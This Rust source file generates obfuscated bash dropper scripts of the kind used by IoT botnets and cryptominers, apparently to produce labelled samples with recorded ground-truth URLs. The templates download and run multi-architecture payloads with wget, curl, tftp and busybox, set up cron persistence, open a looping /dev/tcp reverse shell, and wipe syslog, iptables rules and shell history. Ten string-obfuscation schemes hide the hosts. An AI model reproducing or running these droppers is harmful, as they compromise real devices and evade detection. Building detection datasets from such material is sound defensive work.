//! Droppers for shells, bots of small devices among them.

use crate::generator::{Dice, Truth, base64, codes, each, hex, put, xored};
use std::fmt::Write;

const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

/// A word of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(10) {
        0 => format!("\"$(echo -ne \"{}\")\"", each(text, "", |it| format!("\\x{it:02x}"))),
        1 => {
            let _ =
                writeln!(before, "{name}='{other}|{text}|{}'\n{name}=${{{name}#*|}}", dice.name());
            format!("\"${{{name}%|*}}\"")
        }
        2 => {
            let key = dice.key();
            let list = codes(xored(text, key), " ");
            let _ = writeln!(
                before,
                "{name}=\nfor {other} in {list}; do {name}=\"${name}$(printf \"\\x$(printf %x $(({other} ^ {key})))\")\"; done"
            );
            format!("\"${name}\"")
        }
        3 => {
            let _ = writeln!(before, "{other}='{text}'\n{name}={other}");
            if dice.chance(50) {
                format!("\"${{!{name}}}\"")
            } else {
                format!("\"$(eval echo \\$${name})\"")
            }
        }
        4 => {
            format!("\"$(echo '{};{other};{text};{}' | cut -d';' -f3)\"", dice.name(), dice.name())
        }
        5 => format!("\"$(printf \"$(echo {} | sed 's/../\\\\x&/g')\")\"", hex(text.as_bytes())),
        6 => {
            let table = dice.shuffled(LETTERS);
            let turned: String = text
                .chars()
                .map(|letter| match LETTERS.find(letter) {
                    Some(at) => table.chars().nth(at).unwrap_or(letter),
                    None => letter,
                })
                .collect();
            format!("\"$(echo '{turned}' | tr '{table}' '{LETTERS}')\"")
        }
        7 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let _ = writeln!(
                before,
                "IFS='|' read -r {} <<< \"{}\"",
                names.join(" "),
                pieces.join("|")
            );
            let word: String = names.iter().map(|name| format!("${{{name}}}")).collect();
            format!("\"{word}\"")
        }
        8 => {
            let _ = writeln!(
                before,
                "{name}=$(base64 -d <<'{other}'\n{}\n{other}\n)",
                base64(text.as_bytes())
            );
            format!("\"${name}\"")
        }
        _ => {
            let table = dice.shuffled(&format!("{LETTERS}:/.-"));
            let list: Vec<String> =
                text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
            let _ = writeln!(
                before,
                "{name}='{table}'; {other}=\nfor i in {}; do {other}=${other}${{{name}:$i:1}}; done",
                list.join(" ")
            );
            format!("\"${other}\"")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => format!("#!/bin/bash\nbash -c \"$(echo {} | base64 -d)\"\n", base64(text.as_bytes())),
        1 => format!("#!/bin/bash\nbase64 -d <<< {} | bash\n", base64(text.as_bytes())),
        2 => format!("#!/bin/bash\neval \"$(echo {} | xxd -p -r)\"\n", hex(text.as_bytes())),
        3 => format!(
            "#!/bin/bash\nexport PATH=$PATH:/usr/local/sbin:/sbin\nulimit -n 65535\nrm -rf /var/log/syslog\npkill -9 -f kinsing >/dev/null 2>&1\niptables -F\n{text}history -c\n"
        ),
        _ => format!("#!/bin/bash\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(8) {
        0 => {
            let host = dice.host();
            truth.urls.insert(format!("http://{host}/{file}.sh"));
            truth.urls.insert(format!("tftp://{host}/t{file}.sh"));
            truth.urls.insert(format!("tftp://{host}/u{file}.sh"));
            truth.urls.insert(format!("ftp://anonymous:anonymous@{host}/f{file}.sh"));
            truth.endpoints.insert((host.clone(), 21));
            put(
                "s=@H@
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
wget http://$s/@F@.sh; curl -O http://$s/@F@.sh; chmod 777 @F@.sh; sh @F@.sh
tftp $s -c get t@F@.sh; chmod 777 t@F@.sh; sh t@F@.sh
tftp -r u@F@.sh -g $s; chmod 777 u@F@.sh; sh u@F@.sh
ftpget -v -u anonymous -p anonymous -P 21 $s f@F@.sh f@F@.sh; sh f@F@.sh
rm -rf *.sh
",
                &[("H", &hide(dice, &host, before)), ("F", &file)],
            )
        }
        1 => {
            let host = dice.host();
            let port = dice.port();
            for kind in ["mips", "mipsel", "armv7l", "x86_64"] {
                truth.urls.insert(format!("http://{host}:{port}/{var}/{file}.{kind}"));
            }
            put(
                "s=@H@; p=$((@A@ + @B@))
set -- mips mipsel armv7l x86_64
while [ $# -gt 0 ]; do
  b=$1; shift
  /bin/busybox wget http://\"$s\":$p/@V@/@F@.$b -O- > .@F@; chmod +x .@F@; ./.@F@ $b; rm -f .@F@
done
",
                &[
                    ("H", &hide(dice, &host, before)),
                    ("A", &(port / 2).to_string()),
                    ("B", &(port - port / 2).to_string()),
                    ("F", &file),
                    ("V", &var),
                ],
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "h=@H@
exec 3<>/dev/tcp/$h/@P@
printf 'GET /@F@ HTTP/1.0\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' \"$h\" >&3
while IFS= read -r line; do [ \"$line\" = $'\\r' ] && break; done <&3
cat <&3 > /tmp/@F@
exec 3>&-
chmod +x /tmp/@F@ && /tmp/@F@
",
                &[("H", &hide(dice, &host, before)), ("P", &port.to_string()), ("F", &file)],
            )
        }
        3 => {
            let url = truth.url(dice, &[".sh", ""]);
            put(
                "u=@U@
echo \"*/5 * * * * root (curl -fsSL $u||wget -q -O- $u)|sh\" > /etc/cron.d/@F@
echo 'MAILTO=\"\"' >> /etc/cron.d/@F@
",
                &[("U", &hide(dice, &url, before)), ("F", &file)],
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".elf", ".x64"]);
            put(
                "@V@() {
  if type curl >/dev/null 2>&1; then
    curl -k -L -m 60 --connect-timeout 10 -o \"$2\" \"$1\"
  elif [ -x /usr/bin/wget ]; then
    wget --no-check-certificate -t 3 -T 60 -O \"$2\" \"$1\"
  else
    python3 -c \"import urllib.request;urllib.request.urlretrieve('$1', '$2')\"
  fi
  return $?
}
for d in /dev/shm /var/tmp /tmp; do
  [ -w \"$d\" ] && T=\"$d/.@F@\" && break
done
@V@ @U@ \"$T\" && { chmod 755 \"$T\"; nohup \"$T\" >/dev/null 2>&1 & }
",
                &[("U", &hide(dice, &url, before)), ("F", &file), ("V", &var)],
            )
        }
        5 => {
            let url = truth.url(dice, &[".sh", ".txt"]);
            put(
                "u=@U@
nohup bash -c \"curl -fsSL --retry 3 -A 'Mozilla/5.0' $u | bash\" >/dev/null 2>&1 &
disown
",
                &[("U", &hide(dice, &url, before))],
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "@V@=@H@
while :; do
  setsid bash -c \"exec bash -i &>/dev/tcp/$@V@/@P@ <&1\"
  sleep 60
done
",
                &[("H", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        _ => {
            let base = format!("http://{}/{}", dice.host(), dice.name());
            for part in ["a", "b", "c"] {
                truth.urls.insert(format!("{base}/{file}-{part}"));
            }
            put(
                "C=@U@
cd /tmp
for x in {a..c}; do
  {curl,-s,-o,@F@.$x,$C/@F@-$x} || wget${IFS}-q${IFS}$C/@F@-$x${IFS}-O${IFS}@F@.$x
done
cat @F@.? > @F@; chmod +x @F@; ./@F@
",
                &[("U", &hide(dice, &base, before)), ("F", &file)],
            )
        }
    }
}
